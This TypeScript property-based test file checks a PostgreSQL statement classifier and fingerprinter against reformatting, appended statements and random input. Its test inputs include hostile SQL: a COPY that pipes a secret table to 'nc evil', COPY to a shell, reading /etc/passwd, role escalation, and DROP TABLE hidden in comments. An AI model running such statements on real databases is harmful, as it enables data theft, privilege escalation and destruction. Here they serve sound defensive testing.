import fc from 'fast-check';
import { scanSync } from 'libpg-query';
import { classifySql, initSqlParser } from './index';

beforeAll(async () => {
  await initSqlParser();
});

const BASES = [
  'select id, name from public.users where id = 42 order by name limit 10',
  'SELECT * FROM "PUBLIC"."Users" u JOIN orders o ON o.user_id = u.id WHERE o.total > 100',
  'with d as (delete from sessions where expires_at < now() returning user_id) select count(*) from d',
  'update accounts set balance = balance - 10 where id = $1 returning balance',
  'delete from t where 1 = 1',
  'insert into audit (a, b) select a, b from staging on conflict (a) do update set b = excluded.b',
  'merge into t using s on t.id = s.id when matched then update set a = s.a when not matched then insert values (s.id, s.a)',
  `select pg_read_file('/etc/passwd'), lo_import('/tmp/x') from generate_series(1, 3)`,
  `select set_config('role', 'admin', false)`,
  'explain analyze select * from big where x in (select y from small)',
  'explain select * from big',
  `copy (select * from secret) to program 'nc evil 80'`,
  'copy t from stdin',
  `DO $$ BEGIN EXECUTE 'drop table ' || quote_ident(tbl); DELETE FROM t; END $$`,
  `CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DROP TABLE x $$`,
  'prepare p (int) as select * from t where id = $1',
  'select * from t for update skip locked',
  'begin; set local role reporting; select a from U&"\\0064rop"; commit',
  `select E'it''s', $tag$ ; drop table x; $tag$, 'a' || b from t where c like 'x%'`,
  'select a::int, b::text[], (c).d, e[1] from t where f is not distinct from g',
  'create view v as select * from t where a between 1 and 10',
  'grant select on t to bob; revoke all on u from bob',
];

const SEPARATORS = [
  ' ',
  '  ',
  '\n',
  '\t',
  '\r\n',
  ' /* c */ ',
  '/**/',
  '/* a /* nested ; drop table x */ b */',
  ' -- x; drop table y\n',
];

const WORD = /^[A-Za-z_][A-Za-z0-9_]*$/;

interface Token {
  text: string;
  word: boolean;
}

function tokensOf(sql: string): Token[] {
  return scanSync(sql)
    .tokens.filter((t) => t.tokenName !== 'SQL_COMMENT' && t.tokenName !== 'C_COMMENT')
    .map((t) => ({ text: t.text, word: WORD.test(t.text) }));
}

/** Rebuilds the statement token by token: new whitespace and comments, keywords and unquoted names re-cased. */
function reformat(tokens: readonly Token[], separators: readonly number[], cases: readonly number[]): string {
  let out = SEPARATORS[separators[0] % SEPARATORS.length];
  tokens.forEach((token, i) => {
    let text = token.text;
    if (token.word) {
      const mode = cases[i % cases.length] % 3;
      text = mode === 0 ? text.toUpperCase() : mode === 1 ? text.toLowerCase() : mixedCase(text);
    }
    out += text + SEPARATORS[separators[(i + 1) % separators.length] % SEPARATORS.length];
  });
  return out;
}

function mixedCase(text: string): string {
  return [...text].map((c, i) => (i % 2 === 0 ? c.toUpperCase() : c.toLowerCase())).join('');
}

const layout = fc.record({
  separators: fc.array(fc.nat(), { minLength: 1, maxLength: 64 }),
  cases: fc.array(fc.nat(), { minLength: 1, maxLength: 64 }),
});

describe('reformatting never changes the classification or the fingerprint', () => {
  it.each(BASES)('%s', (base) => {
    const expected = classifySql(base);
    expect(expected.ok).toBe(true);
    const tokens = tokensOf(base);
    fc.assert(
      fc.property(layout, ({ separators, cases }) => {
        const variant = reformat(tokens, separators, cases);
        expect(classifySql(variant)).toEqual(expected);
      }),
      { numRuns: 60 },
    );
  });
});

describe('multi-statement tricks', () => {
  const dangerous = ['drop table users', 'copy t to program $$sh$$', 'set role admin', `DO 'begin null; end'`];

  it('an appended statement is classified on its own and leaves the others intact', () => {
    fc.assert(
      fc.property(fc.constantFrom(...BASES), fc.constantFrom(...dangerous), layout, (base, extra, { separators }) => {
        const sep = SEPARATORS[separators[0] % SEPARATORS.length];
        const combined = classifySql(`${base}${sep};${sep}${extra}`);
        const alone = classifySql(extra);
        const baseResult = classifySql(base);
        expect(combined.statements.slice(0, -1)).toEqual(baseResult.statements);
        expect(combined.statements[combined.statements.length - 1]).toEqual(alone.statements[0]);
        expect(combined.fingerprint).not.toBe(baseResult.fingerprint);
      }),
      { numRuns: 80 },
    );
  });
});

describe('fingerprint', () => {
  it('ignores literal values that do not change the classification', () => {
    expect(classifySql('select * from t where id = 1').fingerprint).toBe(
      classifySql('SELECT * FROM t WHERE id = 999 -- other').fingerprint,
    );
    expect(classifySql(`select * from t where name in ('a', 'b')`).fingerprint).toBe(
      classifySql(`select * from t where name in ('c')`).fingerprint,
    );
  });

  it.each([
    ['another table', 'select a from t', 'select a from u'],
    ['another schema', 'select a from public.t', 'select a from "PUBLIC".t'],
    ['another function', 'select f(1)', 'select g(1)'],
    ['another verb', 'delete from t where id = 1', 'select * from t where id = 1'],
    ['one more statement', 'select 1', 'select 1; select 1'],
    ['EXPLAIN vs EXPLAIN ANALYZE', 'explain delete from t', 'explain analyze delete from t'],
    // The parse trees differ only in literals here; the classification tells them apart.
    ['tautology vs restriction', 'delete from t where 1 = 1', 'delete from t where 1 = 2'],
    ['DO bodies', `DO $$ BEGIN DELETE FROM a; END $$`, `DO $$ BEGIN DELETE FROM b; END $$`],
    [
      'function bodies',
      `create function f() returns void language sql as 'delete from a'`,
      `create function f() returns void language sql as 'select 1'`,
    ],
    ['EXECUTE of another prepared statement', 'execute p1', 'execute p2'],
    [
      'set_config of role vs another setting',
      `select set_config('role', 'x', false)`,
      `select set_config('work_mem', 'x', false)`,
    ],
  ])('differs for %s', (_name, a, b) => {
    const fa = classifySql(a).fingerprint;
    const fb = classifySql(b).fingerprint;
    expect(fa).toMatch(/^[0-9a-f]{32}$/);
    expect(fa).not.toBe(fb);
  });
});

describe('robustness', () => {
  it('never throws on arbitrary text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 200 }), (text) => {
        const result = classifySql(text);
        expect(typeof result.ok).toBe('boolean');
        if (!result.ok) expect(result.fingerprint).toBe('');
      }),
      { numRuns: 300 },
    );
  });

  it('never throws on shuffled SQL tokens', () => {
    const vocabulary = tokensOf(BASES.join(' ; ')).map((t) => t.text);
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...vocabulary), { maxLength: 40 }), (words) => {
        const result = classifySql(words.join(' '));
        expect(typeof result.ok).toBe('boolean');
      }),
      { numRuns: 300 },
    );
  });
});
